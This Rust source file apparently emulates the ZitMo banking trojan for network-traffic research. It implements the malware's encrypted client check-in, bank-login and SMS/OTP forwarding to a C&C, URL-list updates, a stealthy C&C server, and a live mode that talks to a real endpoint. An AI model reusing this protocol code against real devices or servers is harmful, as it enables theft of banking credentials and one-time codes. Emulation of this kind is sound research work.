//! ZitMo client/C&C emulation.
//!
//! Flow: on boot the client reports in with an empty login, its phone and
//! IMEI, and a CRC32 over its hardcoded URL list; the server answers with
//! either a fresh URL list or a no-change response. The victim's bank
//! account entry and incoming SMS are reported as they happen, and the
//! client pings on a fixed interval for URL updates. Every body travels
//! AES-ECB encrypted and Base64 encoded over HTTP.

use std::net::Ipv4Addr;
use std::path::Path;

use serde::{Deserialize, Serialize};

use crate::alerts::{AppProto, L4Proto, TrafficEvent};
use crate::codecs::{
    crc32_hex, zitmo_decrypt, zitmo_encrypt, zitmo_format, zitmo_parse, ZitMoMessage,
    ZITMO_DEFAULT_KEY, ZITMO_TERMINATOR,
};

use super::http::{HttpRequest, HttpResponse};
use super::{EmulatorError, EPHEMERAL_PORT_BASE};

fn default_key() -> String {
    ZITMO_DEFAULT_KEY.to_string()
}

/// Default mirrors the observed 15-minute ping interval at one tick per
/// minute.
fn default_ping_interval() -> u64 {
    15
}

fn default_settings_path() -> String {
    // mirrors the path the device variant persists to; scripted runs do
    // not write it unless persistence is opted in
    "/data/data/com.guard.smart/cfg.txt".to_string()
}

fn default_client_ip() -> Ipv4Addr {
    Ipv4Addr::new(10, 0, 0, 2)
}

#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct ZitMoClientConfig {
    pub phone: String,
    pub devid: String,
    #[serde(default = "default_key")]
    pub key16: String,
    pub cnc_urls: Vec<String>,
    #[serde(default = "default_ping_interval")]
    pub ping_interval_ticks: u64,
    #[serde(default)]
    pub account: Option<String>,
    #[serde(default = "default_settings_path")]
    pub settings_path: String,
    #[serde(default = "default_client_ip")]
    pub client_ip: Ipv4Addr,
    /// Scripted runs stay in memory unless persistence is requested.
    #[serde(default)]
    pub persist_settings: bool,
}

impl ZitMoClientConfig {
    fn validate(&self) -> Result<(), EmulatorError> {
        if self.key16.len() != 16 {
            return Err(EmulatorError::BadConfig("key16 must be 16 bytes".to_string()));
        }
        if self.cnc_urls.is_empty() {
            return Err(EmulatorError::BadConfig(
                "at least one C&C URL is required".to_string(),
            ));
        }
        if self.ping_interval_ticks < 1 {
            return Err(EmulatorError::BadConfig(
                "ping_interval_ticks must be at least 1".to_string(),
            ));
        }
        Ok(())
    }
}

/// Local device happenings the client reacts to; one per tick.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(tag = "event", rename_all = "snake_case")]
pub enum ZitMoLocalEvent {
    Boot,
    AccountEntry { account: String },
    IncomingSms { text: String, number: String },
    Idle,
}

/// The client state machine, shared between scripted and live modes.
#[derive(Debug, Clone)]
pub struct ZitMoClient {
    cfg: ZitMoClientConfig,
    login: String,
    urls: Vec<String>,
    ticks_since_contact: u64,
    booted: bool,
    settings_dirty: bool,
}

impl ZitMoClient {
    pub fn new(cfg: ZitMoClientConfig) -> Result<Self, EmulatorError> {
        cfg.validate()?;
        let urls = cfg.cnc_urls.clone();
        Ok(ZitMoClient {
            cfg,
            login: String::new(),
            urls,
            ticks_since_contact: 0,
            booted: false,
            settings_dirty: false,
        })
    }

    /// CRC32 over the canonical URL-list serialization (newline-joined).
    pub fn dd(&self) -> String {
        crc32_hex(self.urls.join("\n").as_bytes())
    }

    pub fn urls(&self) -> &[String] {
        &self.urls
    }

    /// Reacts to one local event; returns the plaintext wire message to
    /// send, if any.
    pub fn on_local_event(&mut self, event: &ZitMoLocalEvent) -> Option<String> {
        match event {
            ZitMoLocalEvent::Boot => {
                self.booted = true;
                self.ticks_since_contact = 0;
                let mut msg =
                    ZitMoMessage::timer(&self.login, &self.cfg.phone, &self.cfg.devid, &self.dd(), 0);
                msg.urls = Some(self.urls.clone());
                Some(zitmo_format(&msg))
            }
            ZitMoLocalEvent::AccountEntry { account } => {
                self.login = account.clone();
                self.ticks_since_contact = 0;
                Some(zitmo_format(&ZitMoMessage::login(
                    &self.login,
                    &self.cfg.phone,
                    &self.cfg.devid,
                )))
            }
            ZitMoLocalEvent::IncomingSms { text, number } => {
                self.ticks_since_contact = 0;
                Some(zitmo_format(&ZitMoMessage::sms(text, number, &self.login)))
            }
            ZitMoLocalEvent::Idle => None,
        }
    }

    /// Clock tick; emits a URL-update ping when the interval elapses.
    pub fn on_tick(&mut self) -> Option<String> {
        if !self.booted {
            return None;
        }
        self.ticks_since_contact += 1;
        if self.ticks_since_contact >= self.cfg.ping_interval_ticks {
            self.ticks_since_contact = 0;
            let msg =
                ZitMoMessage::timer(&self.login, &self.cfg.phone, &self.cfg.devid, &self.dd(), 1);
            Some(zitmo_format(&msg))
        } else {
            None
        }
    }

    /// Applies a decrypted C&C response; returns true when the URL list
    /// changed (settings are then persisted).
    pub fn apply_response(&mut self, plain: &str) -> bool {
        if plain == ZITMO_TERMINATOR {
            return false; // empty response: ack or no-change
        }
        let Some(body) = plain.strip_suffix(ZITMO_TERMINATOR) else {
            return false; // unterminated responses are ignored
        };
        let urls: Vec<String> = body
            .split('&')
            .filter(|t| !t.is_empty())
            .map(|t| t.to_string())
            .collect();
        if urls.is_empty() || urls == self.urls {
            return false;
        }
        self.urls = urls;
        self.settings_dirty = true;
        true
    }

    /// Settings-file contents, the state reloaded after a device reboot.
    pub fn settings_text(&self) -> String {
        let mut out = String::new();
        out.push_str(&format!("login={}\n", self.login));
        for url in &self.urls {
            out.push_str(&format!("url={url}\n"));
        }
        out
    }

    fn persist_if_dirty(&mut self, written: &mut Vec<String>) -> Result<(), EmulatorError> {
        if !self.settings_dirty {
            return Ok(());
        }
        self.settings_dirty = false;
        written.push(self.settings_text());
        if self.cfg.persist_settings {
            let path = Path::new(&self.cfg.settings_path);
            if let Some(parent) = path.parent() {
                std::fs::create_dir_all(parent).map_err(EmulatorError::Io)?;
            }
            std::fs::write(path, self.settings_text()).map_err(EmulatorError::Io)?;
        }
        Ok(())
    }
}

/// One scripted run: the wire events plus the plaintext bodies in order.
#[derive(Debug, Clone)]
pub struct ZitMoRun {
    pub events: Vec<TrafficEvent>,
    pub bodies: Vec<String>,
    pub settings_snapshots: Vec<String>,
}

fn parse_url(url: &str) -> Result<(Ipv4Addr, u16, String), EmulatorError> {
    let rest = url
        .strip_prefix("http://")
        .ok_or_else(|| EmulatorError::BadUrl(url.to_string()))?;
    let (authority, path) = match rest.find('/') {
        Some(i) => (&rest[..i], rest[i..].to_string()),
        None => (rest, "/".to_string()),
    };
    let (host, port) = match authority.split_once(':') {
        Some((h, p)) => (
            h,
            p.parse::<u16>()
                .map_err(|_| EmulatorError::BadUrl(url.to_string()))?,
        ),
        None => (authority, 80),
    };
    let ip: Ipv4Addr = host
        .parse()
        .map_err(|_| EmulatorError::BadUrl(url.to_string()))?;
    Ok((ip, port, path))
}

/// Runs the state machine over a script, one item per tick, answering
/// every message with the C&C's no-change response.
pub fn zitmo_client_run(
    cfg: &ZitMoClientConfig,
    script: &[ZitMoLocalEvent],
) -> Result<ZitMoRun, EmulatorError> {
    let mut client = ZitMoClient::new(cfg.clone())?;
    let mut events = Vec::new();
    let mut bodies = Vec::new();
    let mut settings = Vec::new();
    let mut conn: u64 = 0;
    for (i, item) in script.iter().enumerate() {
        let tick = (i + 1) as u64;
        let mut outgoing: Vec<String> = Vec::new();
        if let Some(ping) = client.on_tick() {
            outgoing.push(ping);
        }
        if let Some(msg) = client.on_local_event(item) {
            outgoing.push(msg);
        }
        for plain in outgoing {
            let (dst_ip, dst_port, path) = parse_url(&client.urls()[0])?;
            let wire = zitmo_encrypt(&cfg.key16, &plain)?;
            events.push(TrafficEvent {
                ts: tick,
                seq: 0,
                src_ip: cfg.client_ip,
                dst_ip,
                src_port: EPHEMERAL_PORT_BASE + (conn % 16384) as u16,
                dst_port,
                proto: L4Proto::Tcp,
                app: AppProto::Http,
                uri: Some(path),
                http_method: Some("POST".to_string()),
                headers: vec![("content-type".to_string(), "text/plain".to_string())],
                payload: wire.into_bytes(),
            });
            conn += 1;
            bodies.push(plain);
            // virtual C&C: no change queued
            client.apply_response(ZITMO_TERMINATOR);
            client.persist_if_dirty(&mut settings)?;
        }
    }
    Ok(ZitMoRun {
        events,
        bodies,
        settings_snapshots: settings,
    })
}

/// The C&C side: decrypts, replies with the queued URL list or the empty
/// response, and swallows malformed input with an empty 200.
#[derive(Debug)]
pub struct ZitMoCnc {
    key16: String,
    pending_urls: Option<Vec<String>>,
    pub log: Vec<ZitMoMessage>,
}

impl ZitMoCnc {
    pub fn new(key16: &str) -> Self {
        ZitMoCnc {
            key16: key16.to_string(),
            pending_urls: None,
            log: Vec::new(),
        }
    }

    /// Queues a URL-list update for the next timer message.
    pub fn queue_url_update(&mut self, urls: Vec<String>) {
        self.pending_urls = Some(urls);
    }

    /// Handles one request body (Base64 text); returns the response body.
    /// Stealth behavior: anything malformed gets an empty 200.
    pub fn handle_body(&mut self, body: &str) -> String {
        let plain = match zitmo_decrypt(&self.key16, body) {
            Ok(p) => p,
            Err(_) => return String::new(),
        };
        let msg = match zitmo_parse(&plain) {
            Ok(m) => m,
            Err(_) => return String::new(),
        };
        let is_timer = msg.services == crate::codecs::ZitMoService::Timer;
        self.log.push(msg);
        let response_plain = if is_timer {
            match self.pending_urls.take() {
                Some(urls) => format!("{}{}", urls.join("&"), ZITMO_TERMINATOR),
                None => ZITMO_TERMINATOR.to_string(),
            }
        } else {
            ZITMO_TERMINATOR.to_string()
        };
        zitmo_encrypt(&self.key16, &response_plain).unwrap_or_default()
    }

    pub fn handle(&mut self, request: &HttpRequest) -> HttpResponse {
        if request.method != "POST" {
            return HttpResponse::ok(Vec::new());
        }
        let body = String::from_utf8_lossy(&request.body).into_owned();
        HttpResponse::ok(self.handle_body(&body).into_bytes())
            .with_header("Content-Type", "text/plain")
    }
}

/// Live mode: drives the state machine against a real HTTP endpoint,
/// processing genuine responses (URL updates included). Returns the
/// plaintext bodies sent.
pub fn zitmo_client_live(
    cfg: &ZitMoClientConfig,
    server_addr: &str,
    script: &[ZitMoLocalEvent],
    tick_ms: u64,
) -> Result<Vec<String>, EmulatorError> {
    let mut client = ZitMoClient::new(cfg.clone())?;
    let mut bodies = Vec::new();
    let mut settings = Vec::new();
    for item in script {
        if tick_ms > 0 {
            std::thread::sleep(std::time::Duration::from_millis(tick_ms));
        }
        let mut outgoing: Vec<String> = Vec::new();
        if let Some(ping) = client.on_tick() {
            outgoing.push(ping);
        }
        if let Some(msg) = client.on_local_event(item) {
            outgoing.push(msg);
        }
        for plain in outgoing {
            let (_, _, path) = parse_url(&client.urls()[0])?;
            let wire = zitmo_encrypt(&cfg.key16, &plain)?;
            let request = HttpRequest::new("POST", &path)
                .with_header("Content-Type", "text/plain")
                .with_body(wire.into_bytes());
            let response =
                super::http::http_request(server_addr, &request).map_err(EmulatorError::Io)?;
            let body = String::from_utf8_lossy(&response.body).into_owned();
            if !body.is_empty() {
                if let Ok(decrypted) = zitmo_decrypt(&cfg.key16, &body) {
                    client.apply_response(&decrypted);
                    client.persist_if_dirty(&mut settings)?;
                }
            }
            bodies.push(plain);
        }
    }
    Ok(bodies)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn cfg() -> ZitMoClientConfig {
        ZitMoClientConfig {
            phone: "+15555215554".to_string(),
            devid: "358240051111110".to_string(),
            key16: default_key(),
            cnc_urls: vec!["http://172.17.0.1:8000/ss/app.php".to_string()],
            ping_interval_ticks: 15,
            account: None,
            settings_path: default_settings_path(),
            client_ip: default_client_ip(),
            persist_settings: false,
        }
    }

    fn boot() -> ZitMoLocalEvent {
        ZitMoLocalEvent::Boot
    }

    fn account(a: &str) -> ZitMoLocalEvent {
        ZitMoLocalEvent::AccountEntry {
            account: a.to_string(),
        }
    }

    fn sms(text: &str, number: &str) -> ZitMoLocalEvent {
        ZitMoLocalEvent::IncomingSms {
            text: text.to_string(),
            number: number.to_string(),
        }
    }

    #[test]
    fn boot_sends_one_init_timer_message() {
        let run = zitmo_client_run(&cfg(), &[boot()]).unwrap();
        assert_eq!(run.events.len(), 1);
        assert_eq!(run.events[0].http_method.as_deref(), Some("POST"));
        let msg = zitmo_parse(&run.bodies[0]).unwrap();
        assert_eq!(msg.services, crate::codecs::ZitMoService::Timer);
        assert_eq!(msg.login, "");
        assert_eq!(msg.flag, Some(0));
        assert_eq!(msg.urls.as_deref(), Some(&cfg().cnc_urls[..]));
        // the wire payload decrypts back to the formatted body
        let wire = String::from_utf8(run.events[0].payload.clone()).unwrap();
        assert_eq!(zitmo_decrypt(&cfg().key16, &wire).unwrap(), run.bodies[0]);
    }

    #[test]
    fn account_entry_reports_login() {
        let run = zitmo_client_run(&cfg(), &[boot(), account("123456789")]).unwrap();
        assert_eq!(run.bodies.len(), 2);
        let msg = zitmo_parse(&run.bodies[1]).unwrap();
        assert_eq!(msg.services, crate::codecs::ZitMoService::Login);
        assert_eq!(msg.login, "123456789");
    }

    #[test]
    fn sms_forward_matches_observed_row() {
        let run = zitmo_client_run(
            &cfg(),
            &[
                boot(),
                account("123456789"),
                sms("OTP for transaction #5356323274 is 163572.", "3085550174"),
            ],
        )
        .unwrap();
        assert_eq!(
            run.bodies[2],
            "services=sms&text=OTP+for+transaction+%235356323274+is+163572.&number=3085550174&login=123456789&"
        );
    }

    #[test]
    fn ping_fires_on_interval() {
        let mut config = cfg();
        config.ping_interval_ticks = 2;
        let script = vec![boot(), ZitMoLocalEvent::Idle, ZitMoLocalEvent::Idle];
        let run = zitmo_client_run(&config, &script).unwrap();
        assert_eq!(run.bodies.len(), 2);
        let ping = zitmo_parse(&run.bodies[1]).unwrap();
        assert_eq!(ping.flag, Some(1));
        assert_eq!(ping.urls, None);
    }

    #[test]
    fn cnc_answers_init_with_no_change() {
        let mut cnc = ZitMoCnc::new(ZITMO_DEFAULT_KEY);
        let run = zitmo_client_run(&cfg(), &[boot()]).unwrap();
        let wire = String::from_utf8(run.events[0].payload.clone()).unwrap();
        let response = cnc.handle_body(&wire);
        let plain = zitmo_decrypt(ZITMO_DEFAULT_KEY, &response).unwrap();
        assert_eq!(plain, ZITMO_TERMINATOR);
        assert_eq!(cnc.log.len(), 1);
    }

    #[test]
    fn cnc_answers_sms_with_empty_response() {
        let mut cnc = ZitMoCnc::new(ZITMO_DEFAULT_KEY);
        let body = zitmo_encrypt(
            ZITMO_DEFAULT_KEY,
            "services=sms&text=hi&number=1&login=9&",
        )
        .unwrap();
        let response = cnc.handle_body(&body);
        let plain = zitmo_decrypt(ZITMO_DEFAULT_KEY, &response).unwrap();
        assert_eq!(plain, ZITMO_TERMINATOR);
    }

    #[test]
    fn malformed_body_gets_stealth_empty_answer() {
        let mut cnc = ZitMoCnc::new(ZITMO_DEFAULT_KEY);
        assert_eq!(cnc.handle_body("!!not encrypted!!"), "");
        assert!(cnc.log.is_empty());
    }

    #[test]
    fn url_update_changes_dd_on_next_ping() {
        let mut cnc = ZitMoCnc::new(ZITMO_DEFAULT_KEY);
        cnc.queue_url_update(vec!["http://172.17.0.9:8000/ss/app.php".to_string()]);

        let mut client = ZitMoClient::new(cfg()).unwrap();
        let dd_before = client.dd();
        let init = client.on_local_event(&boot()).unwrap();
        let wire = zitmo_encrypt(ZITMO_DEFAULT_KEY, &init).unwrap();
        let response = cnc.handle_body(&wire);
        let plain = zitmo_decrypt(ZITMO_DEFAULT_KEY, &response).unwrap();
        assert!(client.apply_response(&plain));
        assert_ne!(client.dd(), dd_before);
        assert_eq!(client.urls(), ["http://172.17.0.9:8000/ss/app.php"]);
        assert!(client.settings_text().contains("url=http://172.17.0.9:8000/ss/app.php"));
    }

    #[test]
    fn settings_file_is_written_when_enabled() {
        let dir = std::env::temp_dir().join(format!("zitmo-test-{}", std::process::id()));
        let mut config = cfg();
        config.persist_settings = true;
        config.settings_path = dir.join("cfg.txt").to_string_lossy().into_owned();
        let mut client = ZitMoClient::new(config.clone()).unwrap();
        client.on_local_event(&boot());
        client.apply_response(&format!(
            "http://172.17.0.9:8000/ss/app.php{ZITMO_TERMINATOR}"
        ));
        let mut written = Vec::new();
        client.persist_if_dirty(&mut written).unwrap();
        assert_eq!(written.len(), 1);
        let on_disk = std::fs::read_to_string(&config.settings_path).unwrap();
        assert!(on_disk.contains("url=http://172.17.0.9:8000/ss/app.php"));
        let _ = std::fs::remove_dir_all(dir);
    }
}
